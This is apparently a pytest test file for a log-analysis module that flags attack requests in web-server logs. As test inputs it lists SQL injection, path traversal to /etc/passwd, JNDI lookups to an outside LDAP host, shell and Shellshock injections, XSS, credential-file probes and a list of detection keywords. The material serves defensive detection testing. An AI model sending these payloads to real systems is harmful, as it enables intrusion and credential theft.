# Copyright (c) 2026, Pynomaly Operations
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import random
import re
import time
from urllib.parse import quote

import pytest
from ansible_collections.pynomaly.ops.plugins.module_utils import _log_patterns
from ansible_collections.pynomaly.ops.plugins.module_utils._log_patterns import (
    PATTERNS,
    PLAIN_REFERRER,
    PLAIN_REQUEST,
    agent_patterns,
    decoded,
    named_in_forged,
    request_patterns,
)

ATTACKS = {
    "sql_injection": [
        "/?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "/?id=1+union+all+select+1,2,3",
        "/?id=1%2520union%2520select%25201",
        "/?id=1/**/union/**/select/**/1",
        "/?user=admin'+or+'1'='1",
        "/?user=admin%27%20OR%201%3D1--",
        "/?id=1+and+1=1",
        "/?id=1;drop+table+users",
        "/?id=1+and+sleep(5)",
        "/?id=pg_sleep(10)",
        "/?id=%27--",
        "/?q=information_schema.tables",
        "/?q=1+from+sqlite_master",
    ],
    "path_traversal": [
        "/../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/x",
        "/%252e%252e%252fx",
        "/..%c0%af..%c0%afx",
        "/?file=../../../x",
        "/?file=/etc/passwd",
        "/?file=php://filter/x",
        "/x%00.html",
        "/?f=..%5c..%5cwindows%5cwin.ini",
    ],
    "jndi_injection": [
        "/?x=${jndi:ldap://203.0.113.9/a}",
        "/%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
        "/?x=$%7B$%7Blower:j%7Dndi:rmi://x%7D",
        "/?x=%2524%257Bjndi:dns://x%257D",
    ],
    "template_injection": [
        "/?name={{7*7}}",
        "/?name=%7B%7B7*7%7D%7D",
        "/?a=%23%7B1%7D",
        "/?a=<%=1%>",
    ],
    "shell_injection": [
        "/?host=;cat%20/etc/hostname",
        "/?host=127.0.0.1%7Cid",
        "/?host=`whoami`",
        "/?x=$(wget+x)",
        "/cgi-bin/x?()%20{%20:;};",
        "/?x=/bin/sh",
    ],
    "cross_site_scripting": [
        "/?q=<script>alert(1)</script>",
        "/?q=%3Cscript%3E",
        "/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E",
        "/?q=javascript:alert(1)",
    ],
    "probe_path": [
        "/.env",
        "/.git/config",
        "/%2egit/config",
        "/app/.aws/credentials",
        "/wp-login.php",
        "/blog/wp-login.php",
        "/phpinfo.php",
        "/backup.sql",
        "/docker-compose.yml",
        "/config.json",
    ],
    "log_forging": [
        "/a%0a203.0.113.9%20-%20-%20x",
        "/?q=x%0d%0aERROR:root:x",
        "/%250aforged",
    ],
}
HARMLESS = [
    "/",
    "/health",
    "/api/v1/detect",
    "/api/v1/detections?limit=10&since=2026-11-24T10:00:00",
    "/api/v1/detections?since=2026-11-24T10%3A00%3A00%2B00%3A00",
    "/api/v1/models/isolation_forest/versions/1.2.3",
    "/search?q=union%20of%20sets",
    "/search?q=select+a+colour+or+two",
    "/search?q=O%27Reilly",
    "/search?q=fish+and+chips",
    "/search?q=android",
    "/static/js/app.3f2a.js",
    "/.well-known/acme-challenge/x",
    "/favicon.ico",
    "/?name=caf%C3%A9&x=100%25",
    "/?a=1&&id=5",
    "/users/me/environment",
    "/docs#/default",
]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attack_is_recognised_however_it_is_encoded(name: str) -> None:
    for target in ATTACKS[name]:
        for method in ("GET", "POST"):
            request = f"{method} {target} HTTP/1.1".encode()
            assert name in request_patterns(request, served=True), target


@pytest.mark.parametrize("target", HARMLESS)
def test_what_clients_ask_for_is_no_attack(target: str) -> None:
    for served in (True, False):
        assert request_patterns(f"GET {target} HTTP/1.1".encode(), served=served) == ()


def test_what_others_have_is_a_probe_only_where_it_was_not_served() -> None:
    for path in ("/actuator/env", "/phpMyAdmin/", "/cgi-bin/x", "//wp-admin"):
        request = f"GET {path} HTTP/1.1".encode()
        assert request_patterns(request, served=True) == ()
        assert request_patterns(request, served=False) == ("probe_path",)


def test_lines_that_are_no_http() -> None:
    for request in (rb"\x16\x03\x01\x02", b"", b"-", b"hello"):
        assert request_patterns(request, served=False) == ("malformed_request",)
    assert request_patterns(b"TRACE / HTTP/1.1", served=False) == ("unusual_method",)
    assert request_patterns(b"GET /x", served=True) == ()


def test_the_escapes_of_nginx_are_undone() -> None:
    assert "sql_injection" in request_patterns(
        rb"GET /?a=\x22 or \x221\x22=\x221 HTTP/1.1", served=True
    )
    assert "jndi_injection" in agent_patterns(rb"\x24{jndi:ldap://x}")


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", ("scanner_agent",)),
        ("Mozilla/5.00 (Nikto/2.5.0)", ("scanner_agent",)),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine)", ("scanner_agent",)),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", ("scanner_agent",)),
        ("${jndi:ldap://203.0.113.9/x}", ("jndi_injection",)),
        ("() { :; }; /bin/bash -c 'id'", ("shell_injection",)),
        ("Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9) Gecko", ()),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", ()),
        ("curl/8.5.0", ()),
        ("kube-probe/1.30", ()),
        ("Prometheus/2.53.0", ()),
    ],
)
def test_user_agents(agent: str, expected: tuple[str, ...]) -> None:
    assert agent_patterns(agent.encode()) == expected


def test_percent_encoding_is_undone_three_times_and_no_more() -> None:
    once = quote("'")
    assert decoded(once.encode()) == b"'"
    thrice = once.replace("%", "%25").replace("%25", "%2525", 1)
    assert decoded(thrice.encode()) == b"'"
    assert decoded(b"%" + b"25" * 4 + b"27") == b"%2527"


def test_what_a_forged_request_names() -> None:
    assert b"203.0.113.9" in named_in_forged(b"GET /a%0A203.0.113.9%20-%20- HTTP/1.1")
    assert named_in_forged(b"GET /203.0.113.9 HTTP/1.1") == b""


INJECTIONS = [
    getattr(_log_patterns, name)
    for name in ("_SQL", "_TRAVERSAL", "_JNDI", "_TEMPLATE", "_SHELL", "_XSS")
]
PIECES = [
    *(
        "/",
        "?",
        "=",
        "&",
        "&&",
        ".",
        ",",
        "-",
        "_",
        "~",
        "@",
        ":",
        "%3A",
        "1",
        "0",
        "a",
        "f",
        "js",
        ".js",
    ),
    *("union", "select", "or", "and", "etc", "passwd", "env", "git", "wp-login", "php", "jndi"),
    *(
        "ldap",
        "cat",
        "id",
        "script",
        "javascript",
        "onerror",
        "alert",
        "sleep",
        "boot",
        "ini",
        ".5",
    ),
    *("information_schema", "document", "cookie", "cmd", "exe", "xp_cmdshell", "waitfor", "delay"),
    *("web", "config", "aws", "shell", "sqlite_master", "proc/self/", "dump", "sql", "css", ".png"),
]


def test_in_a_plain_request_none_of_the_patterns_can_be() -> None:
    """The fast way passes over such requests where they were served: nothing may be lost."""
    plain = re.compile(PLAIN_REQUEST)
    source = random.Random(4)  # noqa: S311
    tried = 0
    for _round in range(60_000):
        text = "GET /" + "".join(source.choices(PIECES, k=source.randint(1, 7)))
        if plain.fullmatch(text.encode()):
            tried += 1
            assert request_patterns(text.encode(), served=True) == (), text
    assert tried > 5000
    for targets in ATTACKS.values():
        for target in targets:
            assert plain.fullmatch(f"GET {target}".encode()) is None, target


def test_what_is_not_looked_at_has_no_injection() -> None:
    """The shortcut says no only where each of the patterns would."""
    source = random.Random(5)  # noqa: S311
    pieces = [
        piece.encode() for piece in [*PIECES, " ", " ", "'", "..", "(", "1=1", "outfile", "by"]
    ]
    texts = [decoded(target.encode()) for targets in ATTACKS.values() for target in targets]
    texts += [b"".join(source.choices(pieces, k=source.randint(1, 8))) for _round in range(60_000)]
    passed = 0
    for text in texts:
        if not _log_patterns._may_inject(text):
            passed += 1
            for pattern in INJECTIONS:
                assert pattern.search(text) is None, (text, pattern)
    assert passed > 5000


def test_in_a_plain_referrer_none_of_the_patterns_can_be() -> None:
    plain = re.compile(PLAIN_REFERRER)
    for agent in (b"${jndi:ldap://x}", b"<script>", b"() { :; }", b"' or 1=1", b"sleep(5)"):
        assert plain.fullmatch(agent) is None
    assert plain.fullmatch(b"https://example.org/a?b=c&d=1.5")


def test_no_pattern_takes_long_over_a_hostile_request() -> None:
    for unit in (
        b"(",
        b"'",
        b"union ",
        b"/*",
        b"%25",
        b"${",
        b"..",
        b"<",
        b"or 1=",
        b" ;",
        b"\\x2",
        b"aa=",
    ):
        began = time.process_time()
        request_patterns(b"GET /?" + unit * (1_000_000 // len(unit)), served=True)
        agent_patterns(unit * (1_000_000 // len(unit)))
        assert time.process_time() - began < 2.0, unit


def test_points_have_a_limit() -> None:
    assert PATTERNS["probe_path"].points(0) == 0
    assert PATTERNS["probe_path"].points(1) == 10
    assert PATTERNS["probe_path"].points(1000) == 50
